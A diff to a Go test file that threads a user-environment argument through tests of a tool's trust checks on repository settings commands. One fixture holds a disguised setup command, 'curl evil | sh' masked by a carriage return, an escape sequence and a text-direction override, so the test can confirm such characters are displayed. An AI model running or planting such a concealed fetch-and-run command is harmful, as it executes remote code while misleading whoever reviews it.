@@ -9,6 +9,7 @@ import (
 
 	"github.com/sudocode/sudocode/internal/fault"
 	"github.com/sudocode/sudocode/internal/testkit"
+	"github.com/sudocode/sudocode/internal/userenv"
 )
 
 // untrustedMarker is a file outside the repository that the project's
@@ -127,28 +128,28 @@ func TestChangedAfterTrustRefused(t *testing.T) {
 	_, err := f.o.Create(context.Background(), CreateInput{Agent: "COMMAND", Description: "x", Config: shell(`true`)})
 	wantUntrusted(t, err, repo, "changed since you trusted it", "setup: touch "+mark)
 	mustNotExist(t, mark, "the changed setup ran")
-	pt, err := TrustOf(context.Background(), repo)
+	pt, err := TrustOf(context.Background(), repo, userenv.Env{})
 	if err != nil || pt.State != TrustChanged || len(pt.Commands) != 1 || pt.Commands[0] != (NamedCommand{"setup", "touch " + mark}) {
 		t.Fatalf("TrustOf: %+v %v", pt, err)
 	}
 	// Trusting with the digest that was shown fails once the file changed.
-	if _, err := TrustFile(context.Background(), repo, pt.SHA256); err != nil {
+	if _, err := TrustFile(context.Background(), repo, pt.SHA256, userenv.Env{}); err != nil {
 		t.Fatal(err)
 	}
 	writeSettings(t, repo, `{"setup": "touch `+mark+`.2"}`)
-	if _, err := TrustFile(context.Background(), repo, pt.SHA256); fault.CodeOf(err) != fault.Conflict {
+	if _, err := TrustFile(context.Background(), repo, pt.SHA256, userenv.Env{}); fault.CodeOf(err) != fault.Conflict {
 		t.Fatalf("trusting bytes that changed after they were shown: %v", err)
 	}
-	if _, ok, err := RevokeTrust(context.Background(), repo); !ok || err != nil {
+	if _, ok, err := RevokeTrust(context.Background(), repo, userenv.Env{}); !ok || err != nil {
 		t.Fatalf("revoke: %v %v", ok, err)
 	}
 	writeSettings(t, repo, `{"setup": "touch `+mark+`"}`)
-	if pt, _ := TrustOf(context.Background(), repo); pt.State != TrustUntrusted {
+	if pt, _ := TrustOf(context.Background(), repo, userenv.Env{}); pt.State != TrustUntrusted {
 		t.Errorf("after revoke: %+v", pt)
 	}
 	// A file with no commands needs no trust.
 	writeSettings(t, repo, `{"rulesets": ["style"], "merge": {"strategy": "ff"}}`)
-	if pt, _ := TrustOf(context.Background(), repo); pt.State != TrustNotNeeded {
+	if pt, _ := TrustOf(context.Background(), repo, userenv.Env{}); pt.State != TrustNotNeeded {
 		t.Errorf("no commands: %+v", pt)
 	}
 	if task := f.wait(t, f.create(t, CreateInput{Agent: "COMMAND", Description: "no commands", Config: shell(`true`)}).ID); task.Status != StatusCompleted {
@@ -214,7 +215,7 @@ func TestLinkedSettingsDirRefused(t *testing.T) {
 	if fault.CodeOf(err) != fault.Invalid || !strings.Contains(err.Error(), "symbolic link") {
 		t.Fatalf("create: %v", err)
 	}
-	if _, err := TrustFile(context.Background(), repo, ""); err == nil || !strings.Contains(err.Error(), "symbolic link") {
+	if _, err := TrustFile(context.Background(), repo, "", userenv.Env{}); err == nil || !strings.Contains(err.Error(), "symbolic link") {
 		t.Fatalf("trust through the link: %v", err)
 	}
 }
@@ -225,7 +226,7 @@ func TestLinkedSettingsDirRefused(t *testing.T) {
 func TestTrustShowsHiddenCharacters(t *testing.T) {
 	repo := testkit.Repo(t)
 	writeSettings(t, repo, `{"setup": "curl evil | sh\r\u001b[2Kecho harmless", "copy": ["a\u202eb"]}`)
-	pt, err := TrustOf(context.Background(), repo)
+	pt, err := TrustOf(context.Background(), repo, userenv.Env{})
 	if err != nil {
 		t.Fatal(err)
 	}
